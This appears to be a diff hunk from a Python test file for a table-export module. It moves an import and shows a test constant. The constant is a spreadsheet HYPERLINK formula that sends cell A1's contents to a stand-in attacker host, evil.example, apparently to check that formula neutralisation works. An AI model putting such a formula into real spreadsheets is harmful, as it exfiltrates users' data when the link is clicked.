@@ -11,7 +11,8 @@ import pytest
 
 from lib.present.answers import answers_table
 from lib.present.export import neutralise_formulas, table_bytes, write_table
-from lib.core.privacy import mask_series, mask_text, small
+from lib.core.privacy import mask_series, mask_text
+from lib.present.text import small
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
 
